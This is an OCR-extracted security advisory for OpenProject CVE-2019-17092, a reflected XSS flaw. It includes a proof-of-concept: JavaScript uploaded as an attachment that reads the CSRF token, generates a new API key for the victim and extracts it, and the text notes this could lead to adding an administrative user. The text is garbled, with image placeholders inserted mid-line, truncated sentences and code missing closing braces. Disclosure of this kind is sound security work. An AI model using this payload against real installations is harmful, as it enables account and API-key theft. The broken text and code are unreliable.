OpenProject CVE-2019-17092 – Cross Site Scripting

title: Reflected XSS vulnerability
            product: OpenProject
 vulnerable version: <= 9.0.3, <=10.0.1
      fixed version: 9.0.4, 10.0.2
         CVE number: CVE-2019-17092
             impact: medium
              found: 2019-09-27
                 by: David Haintz (Office Vienna)
                     SEC Consult Vulnerability Lab

                     An integrated part of SEC Consult
                     Europe | Asia | North America


1) Reflected XSS vulnerability (CVE-2019-17092)Within this proof of concept, two steps are done. First the JavaScript code to be
executed is uploaded as an attachment to fulfill the Content Security Policy of
'self'. In the second step the uploaded JavaScript code is executed through the
reflected XSS vulnerability by using a script-tag.

a) Upload JavaScript code
An attacker can upload a JavaScript file as attachment into any project in

the default

configuration. The attachment can be called directly, but will be downloaded

automatically. But since the browser doesn't care if a file shall be

downloaded or

displayed when loading it from an src-property, an attacker can easily use

it for the

reflected XSS vulnerability.

In this proof of concept the following JavaScript code was uploaded:

(async () => {var csrf_param = document.querySelector('meta[name=csrf-param]').content;
  var csrf_token = document.querySelector('meta[name=csrf-token]').content;

  var req = await fetch("http://$IP/my/generate_api_key", {
      "credentials": "include",
          "headers": {
          "User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:68.0) Gecko/20100101 Firefox/68.0",
            "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
          "Accept-Language": "de,en-US;q=0.7,en;q=0.3",
            "Content-Type": "application/x-www-form-urlencoded",
            "Upgrade-Insecure-Requests": "1"
      "referrer": "http://$IP/my/access_token",
      "body": "_method=post&" + csrf_param + "=" +encodeURI(csrf_token),
      "method": "POST",
      "mode": "cors"

  var resp = await req.text();

  var regex = /(Your access token is:\<br \/\>\<strong\>)(.*)(\<\/strong\>)/gm;
  var api_key = resp.match(regex)[0];
  api_key = api_key.slice(35, -9);
  alert("Generated new API key: " + api_key);This gets the CSRF token and the parameter name (since this seems to be


and sends a request to the generate_api_keyfunctionality. After parsing,

the key is

exposed in a message box, butcan be used for further operations like addingadministrative user.